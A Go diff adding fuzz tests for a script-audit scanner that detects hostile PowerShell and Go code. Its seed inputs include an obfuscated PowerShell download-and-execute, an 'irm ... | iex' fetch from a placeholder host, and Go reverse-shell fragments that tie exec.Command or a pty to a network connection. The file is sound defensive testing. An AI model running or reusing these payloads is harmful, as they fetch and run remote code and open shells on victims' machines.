@@ -33,3 +33,36 @@ func FuzzScanShell(f *testing.F) {
 		scanShell(sc, "scripts/run.sh", code, 1, inScript)
 	})
 }
+
+// FuzzScanPowerShell: no PowerShell text stops the audit, and the
+// folded copy the variable flow reads keeps every offset of the text.
+func FuzzScanPowerShell(f *testing.F) {
+	for _, s := range []string{
+		"$w = New-Object ('Net.' + 'Web' + 'Client')\n$b = $w.('Download' + 'String').Invoke($u)\n. ([ScriptBlock]::Create($b))",
+		"$s = irm https://x/s.ps1; $s | iex",
+		"'a' + \"b\" + 'c''d' + \"e`\"f\"; iex",
+		"<# c #> $x = 'ht' + 'tps://' # iex $x",
+		"[scriptblock]$y",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, code string) {
+		if folded, _ := foldPSConcat(code); len(folded) != len(code) || strings.Count(folded, "\n") != strings.Count(code, "\n") {
+			t.Fatalf("folding moved offsets: %q -> %q", code, folded)
+		}
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = code
+		scanPowerShell(sc, "scripts/s.ps1", code, 1, inScript)
+	})
+}
+
+// FuzzScanGoShell: no Go text stops the audit.
+func FuzzScanGoShell(f *testing.F) {
+	f.Add("package main\nimport (\"net\"; \"os/exec\")\nfunc s(c net.Conn) { p := exec.Command(\"x\"); p.Stdin, p.Stdout = c, c }")
+	f.Add("package main\nimport \"os/exec\"\nfunc main() { c, _ := l.Accept(); go func(x net.Conn) { io.Copy(x, c) }(c); f, _ := pty.Start(nil); io.Copy(f, c) }")
+	f.Fuzz(func(t *testing.T, code string) {
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = code
+		scanGoShell(sc, "main.go", code)
+	})
+}
